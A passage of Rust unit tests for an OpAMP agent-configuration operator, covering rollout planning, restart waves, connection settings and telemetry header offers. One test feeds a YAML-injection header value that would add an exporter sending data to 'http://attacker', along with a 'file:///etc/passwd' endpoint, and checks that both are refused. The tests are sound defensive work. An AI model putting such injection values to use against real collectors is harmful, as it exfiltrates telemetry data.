                key: rollout_key("team-a/edge", uid),
                applied: false,
                failed: false,
                healthy: true,
                ..Default::default()
            })
            .collect();
        let mut tracker = Tracker::new(hash, Some(1), None);
        let rollout = &config.object.spec.rollout;
        assert!(tracker.advance(rollout, &facts, tokio::time::Instant::now(), Err("none")));
        let status = AgentConfigStatus {
            observed_generation: Some(1),
            config_hash: Some(display_hash(&hash)),
            rollout: Some(tracker.status(RolloutState::Progressing)),
            ..Default::default()
        };
        // Two replicas plan from the same objects, each with agents of its own.
        let (leader, follower) = (Fleet::default(), Fleet::default());
        leader.publish_plan("team-a", Arc::new(plan(object(Some(status.clone())))));
        follower.publish_plan("team-a", Arc::new(plan(object(Some(status)))));
        let mut admitted = 0;
        for uid in &uids {
            let (on_leader, on_follower) = (on_replica(&leader, *uid), on_replica(&follower, *uid));
            assert_eq!(on_leader, on_follower, "agent {uid}: the same on every replica");
            let expected = tracker.admits(rollout_key("team-a/edge", uid));
            assert_eq!(on_leader.is_some(), expected, "agent {uid}");
            admitted += usize::from(expected);
        }
        assert!(
            admitted >= 2,
            "half of the leader's 4 agents, and those of the follower below the threshold"
        );
        // Before the leader started this version's rollout, no replica gives it to anyone.
        let unstarted = Fleet::default();
        unstarted.publish_plan("team-a", Arc::new(before));
        assert!(uids.iter().all(|uid| on_replica(&unstarted, *uid).is_none()));
    }

    #[test]
    fn a_status_write_changes_no_plan_unless_it_moves_the_rollout() {
        let hash = plan(object(None)).configs[0].own_hash.unwrap();
        let with = |applied: u32, up_to: Option<&str>| {
            plan(object(Some(AgentConfigStatus {
                config_hash: Some(display_hash(&hash)),
                applied_agents: applied,
                rollout: Some(crate::api::RolloutStatus {
                    step: 1,
                    state: RolloutState::Progressing,
                    admitted_up_to: up_to.map(str::to_owned),
                    ..Default::default()
                }),
                ..Default::default()
            })))
        };
        let before = with(0, Some("00000000000000ff"));
        assert!(before.same_plan(&with(3, Some("00000000000000ff"))), "counts are not the plan");
        assert!(!before.same_plan(&with(3, Some("0000000000000fff"))), "a new step is");
        assert!(!before.same_plan(&plan(object(None))));
    }

    #[test]
    fn connection_settings_come_from_the_highest_priority_and_are_counted_where_they_win() {
        let config = |name: &str, priority: i32, heartbeat: Option<u32>| {
            let mut c: AgentConfig = serde_yaml::from_str(PROGRESSIVE).unwrap();
            c.metadata.name = Some(name.into());
            c.spec.priority = priority;
            c.spec.connection =
                heartbeat.map(|s| Connection { heartbeat_interval_seconds: Some(s), ..Default::default() });
            Arc::new(c)
        };
        let idx = Arc::new(NamespaceIndex::resolve(
            vec![config("a-low", 0, Some(10)), config("b-high", 5, Some(3)), config("c-none", 9, None)],
            vec![],
            &[],
            &Refs::new().0,
        ));
        let fleet = Fleet::default();
        fleet.publish_plan("team-a", idx.clone());
        let heartbeats = crate::proto::AgentCapabilities::ReportsHeartbeat as u64;
        for (uid, capabilities) in [(Uid([1; 16]), 0x7 | heartbeats), (Uid([2; 16]), 0x7)] {
            let mut conn = fleet.connection(Transport::WebSocket, Tenant::new("team-a"));
            let reply = fleet.handle(&mut conn, AgentToServer { capabilities, ..hello(uid) }).unwrap();
            let offered =
                reply.connection_settings.and_then(|s| s.opamp).map(|o| o.heartbeat_interval_seconds);
            // Before the Progressive rollout admits the agent to the files: settings go at once.
            assert_eq!(reply.remote_config, None);
            assert_eq!(offered, (capabilities & heartbeats != 0).then_some(3), "b-high wins over a-low");
            std::mem::forget(conn);
        }
        let namespaces = vec![("team-a".to_owned(), idx.clone())];
        let counts = super::super::peer::count(&fleet, &crate::peers::Peers::solo(), &namespaces);
        let now = k8s_openapi::apimachinery::pkg::apis::meta::v1::Time(k8s_openapi::jiff::Timestamp::now());
        let status = counts["team-a"].agent_configs(&now, &mut HashMap::new(), &HashMap::new());
        let connection = |i: usize| status[i].connection.clone();
        let won = connection(1).expect("b-high sets connection settings");
        assert_eq!((won.offered_agents, won.unsupported_agents, won.applied_agents), (1, 1, 0));
        assert_eq!(
            won.hash,
            display_hash(
                &offer(Connection { heartbeat_interval_seconds: Some(3), ..Default::default() }).hash
            )
        );
        let lost = connection(0).expect("a-low sets them too");
        assert_eq!((lost.offered_agents, lost.unsupported_agents), (0, 0), "it wins for no agent");
        assert_eq!(connection(2), None);
    }

    #[test]
    fn restart_times_are_rfc3339_and_not_in_the_future() {
        let now = std::time::UNIX_EPOCH + std::time::Duration::from_secs(1_800_000_000);
        assert_eq!(restart_time("2027-01-15T08:00:00Z", now), Ok(1_800_000_000_000_000_000));
        assert_eq!(
            restart_time("2027-01-15T08:00:30Z", now),
            Ok(1_800_000_030_000_000_000),
            "within the skew"
        );
        assert!(restart_time("2027-01-15T08:05:00Z", now).unwrap_err().contains("in the future"));
        assert!(restart_time("yesterday", now).unwrap_err().contains("RFC 3339"));
    }

    #[test]
    fn a_restart_with_a_progressive_rollout_goes_in_its_steps_waves() {
        let mut config: AgentConfig = serde_yaml::from_str(PROGRESSIVE).unwrap();
        config.spec.rollout.min_healthy_seconds = Some(45);
        config.metadata.annotations =
            Some([(RESTART_ANNOTATION.to_owned(), "2026-01-01T00:00:00Z".to_owned())].into());
        let idx = plan(Arc::new(config));
        let at = 1_767_225_600_000_000_000;
        let report = AgentReport {
            description: Some(Description::new(hello(Uid([0; 16])).agent_description.unwrap())),
            ..Default::default()
        };
        let mut waves = [0, 0];
        for i in 0..200u8 {
            let uid = Uid([i; 16]);
            let restart =
                idx.desired(&uid, &report, &DesiredState::default()).restart.expect("selected: restarted");
            assert_eq!(restart.at, at);
            let first = rollout_key("team-a/edge", &uid) < 1 << 63; // the first 50 % of the key space
            assert_eq!(
                restart.due,
                if first { at } else { at + 45_000_000_000 },
                "steps [50], waves of 45 s"
            );
            waves[usize::from(!first)] += 1;
        }
        assert!(waves[0] > 60 && waves[1] > 60, "about half in each wave: {waves:?}");
        // Immediate: all at once.
        let mut config: AgentConfig = serde_yaml::from_str(PROGRESSIVE).unwrap();
        config.spec.rollout = Default::default();
        config.metadata.annotations =
            Some([(RESTART_ANNOTATION.to_owned(), "2026-01-01T00:00:00Z".to_owned())].into());
        let idx = plan(Arc::new(config));
        let restart = idx.desired(&Uid([9; 16]), &report, &DesiredState::default()).restart;
        assert_eq!(restart, Some(Restart { at, due: at }));
    }

    fn offer(connection: Connection) -> ConnectionSettingsOffers {
        settings_offer(&connection, &|_, _| unreachable!("no headers"), &mut Vec::new()).unwrap()
    }

    #[test]
    fn own_telemetry_headers_come_from_secrets_and_cannot_add_collector_configuration() {
        let destination = |endpoint: &str| TelemetryDestination {
            endpoint: endpoint.into(),
            ca_config_map_key_ref: None,
            headers: vec![TelemetryHeader {
                name: "Authorization".into(),
                secret_key_ref: KeyRef { name: "otlp".into(), key: "auth".into() },
            }],
        };
        let metrics =
            |endpoint: &str| Connection { own_metrics: Some(destination(endpoint)), ..Default::default() };
        let with = |value: &'static [u8]| {
            move |_: Kind, _: &KeyRef| Ok::<_, Error>(bytes::Bytes::from_static(value))
        };
        let endpoint = "http://127.0.0.1:4318/v1/metrics";
        let mut missing = Vec::new();
        let ok = settings_offer(&metrics(endpoint), &with(b"Bearer abc\n"), &mut missing).unwrap();
        let m = ok.own_metrics.as_ref().unwrap();
        assert_eq!(m.destination_endpoint, endpoint);
        let headers = &m.headers.as_ref().unwrap().headers;
        assert_eq!((headers[0].key.as_str(), headers[0].value.as_str()), ("Authorization", "Bearer abc"));
        assert_eq!((ok.hash.len(), ok.opamp.is_none(), missing.len()), (32, true, 0));

        // The supervisor writes the value between double quotes into the collector's YAML: a value
        // that closes the quotes could add configuration (an exporter, a receiver) to the collector.
        let attack = b"x\"\n      exporters: {otlphttp/leak: {endpoint: http://attacker}}\n  \"";
        let refused = settings_offer(&metrics(endpoint), &with(attack), &mut missing).unwrap_err();
        assert!(refused.contains("ownMetrics header Authorization"), "{refused}");
        let refused = settings_offer(&metrics("http://a/v1/metrics\n  x: y"), &with(b"ok"), &mut missing);
        assert!(refused.unwrap_err().contains("ownMetrics.endpoint"));
        assert!(settings_offer(&metrics("file:///etc/passwd"), &with(b"ok"), &mut missing).is_err());
        // A missing Secret: the resource waits for it, as for its files.
        let absent = |_: Kind, r: &KeyRef| lookup::<bytes::Bytes>("Secret", r, None);
        assert!(settings_offer(&metrics(endpoint), &absent, &mut missing).is_ok());
        assert_eq!(missing, ["Secret \"otlp\" not found"], "{missing:?}");
        // A CA for an https:// endpoint, from a ConfigMap, with the system's CAs.
        let mut with_ca = metrics("https://otlp.example/v1/metrics");
        with_ca.own_metrics.as_mut().unwrap().ca_config_map_key_ref =
            Some(KeyRef { name: "otlp-ca".into(), key: "ca.crt".into() });
        let read = |kind: Kind, _: &KeyRef| {
            Ok::<_, Error>(bytes::Bytes::from_static(if kind == Kind::ConfigMap {
                b"PEM"
            } else {
                b"Bearer abc"
            }))
        };
        let tls = settings_offer(&with_ca, &read, &mut missing).unwrap().own_metrics.unwrap().tls.unwrap();
        assert_eq!((tls.ca_pem_contents.as_str(), tls.include_system_ca_certs_pool), ("PEM", true));
        // Equal settings, equal hash; another value, another hash.
        let again = settings_offer(&metrics(endpoint), &with(b"Bearer abc"), &mut Vec::new()).unwrap();
        let other = settings_offer(&metrics(endpoint), &with(b"Bearer xyz"), &mut Vec::new()).unwrap();
        assert_eq!(again.hash, ok.hash);
        assert_ne!(other.hash, ok.hash);
        assert_ne!(
            offer(Connection { heartbeat_interval_seconds: Some(5), ..Default::default() }).hash,
            ok.hash
        );
    }

    #[test]
    fn a_server_offer_carries_the_interval_and_needs_a_ca_for_tls() {
        let server = |endpoint: &str, ca: bool| Connection {
            server: Some(OpampServer {
                endpoint: endpoint.into(),
                headers: vec![],
                ca_config_map_key_ref: ca.then(|| KeyRef { name: "ca".into(), key: "ca.crt".into() }),
            }),
            ..Default::default()
        };
        let pem =
            |_: Kind, _: &KeyRef| Ok::<_, Error>(bytes::Bytes::from_static(b"-----BEGIN CERTIFICATE-----"));
        let plain = offer(server("ws://opamp.example:4320/v1/opamp", false)).opamp.unwrap();
        assert_eq!(plain.heartbeat_interval_seconds, 30, "always an interval: the default without one");
        assert_eq!(
            (plain.destination_endpoint.as_str(), plain.certificate),
            ("ws://opamp.example:4320/v1/opamp", None)
        );
        let tls =
            settings_offer(&server("wss://opamp.example/v1/opamp", true), &pem, &mut Vec::new()).unwrap();
        let ca = tls.opamp.unwrap().certificate.unwrap().ca_cert;
        assert_eq!(&ca[..], b"-----BEGIN CERTIFICATE-----");
        // Without a CA the supervisor would stop verifying the operator's certificate.
        let refused = settings_offer(&server("https://opamp.example/v1/opamp", false), &pem, &mut Vec::new());
        assert!(refused.unwrap_err().contains("caConfigMapKeyRef"));
        assert!(settings_offer(&server("ftp://x", false), &pem, &mut Vec::new()).is_err());
    }
}
